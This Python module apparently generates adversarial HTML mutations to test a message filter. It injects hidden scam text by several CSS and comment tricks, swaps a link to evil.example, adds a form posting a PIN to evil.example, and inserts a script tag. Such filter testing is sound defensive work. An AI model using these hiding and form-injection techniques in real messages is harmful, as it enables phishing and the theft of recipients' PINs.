"""What a thief could add to the HTML of an approved message so that few people see it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

from filter.ruleset import Example

_SENTENCE = "Your account is blocked, call +1 900 555 0100 today."
_HIDING = (
    '<span style="display:none">{}</span>',
    '<div style="font-size:0;line-height:0">{}</div>',
    '<p style="color:#ffffff">{}</p>',
    '<div style="position:absolute;left:-9999px">{}</div>',
    '<img src="https://evil.example/x.png" alt="{}">',
    "<!--[if mso]><p>{}</p><![endif]-->",
    '<a href="https://evil.example/pay">&nbsp;</a><!-- {} -->',
    '<style>p::after {{content: "{}"}}</style>',
)  # fmt: skip


def html_mutations(example: Example) -> Iterator[tuple[str, Example]]:
    """Yield changes to the mark-up of a message, with their names."""
    page = example.html
    if page is None:
        return
    for number, form in enumerate(_HIDING):
        added = form.format(_SENTENCE)
        yield f"hidden text {number}", replace(example, html=_before_end(page, added))
    href = re.search(r"""(<a\b[^>]*\bhref=)(["'])(https?://[^"'/]+)""", page)
    if href:
        other = page[: href.start(3)] + "https://evil.example" + page[href.end(3) :]
        yield "another link behind the words", replace(example, html=other)
    yield (
        "a form",
        replace(
            example,
            html=_before_end(page, '<form action="https://evil.example"><input name="pin"></form>'),
        ),
    )
    yield "a script", replace(example, html=_before_end(page, "<script>alert(1)</script>"))


def _before_end(page: str, added: str) -> str:
    end = page.lower().rfind("</body>")
    return page + added if end < 0 else page[:end] + added + page[end:]
